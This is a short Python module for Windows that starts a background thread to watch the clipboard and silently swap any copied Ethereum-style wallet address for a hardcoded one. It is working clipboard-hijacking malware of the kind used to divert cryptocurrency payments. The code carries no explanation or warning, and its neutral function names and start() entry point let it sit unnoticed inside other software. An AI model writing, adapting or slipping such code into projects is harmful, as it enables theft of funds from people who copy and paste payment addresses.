import ctypes
import re
import threading
import time

CF_UNICODETEXT = 13
_ADDR = "0x1111111111111111111111111111111111111111"
_RX = re.compile(r"0x[0-9a-fA-F]{40}")


def _get(u32, k32):
    if not u32.OpenClipboard(None):
        return None
    try:
        h = u32.GetClipboardData(CF_UNICODETEXT)
        if not h:
            return None
        p = k32.GlobalLock(h)
        text = ctypes.wstring_at(p)
        k32.GlobalUnlock(h)
        return text
    finally:
        u32.CloseClipboard()


def _set(u32, k32, text):
    data = (text + "\0").encode("utf-16-le")
    h = k32.GlobalAlloc(0x0042, len(data))
    ctypes.memmove(k32.GlobalLock(h), data, len(data))
    k32.GlobalUnlock(h)
    u32.OpenClipboard(None)
    u32.EmptyClipboard()
    u32.SetClipboardData(CF_UNICODETEXT, h)
    u32.CloseClipboard()


def _loop():
    u32, k32 = ctypes.windll.user32, ctypes.windll.kernel32
    while True:
        t = _get(u32, k32)
        if t and _RX.fullmatch(t.strip()) and t.strip() != _ADDR:
            _set(u32, k32, _ADDR)
        time.sleep(0.3)


def start():
    threading.Thread(target=_loop, daemon=True).start()
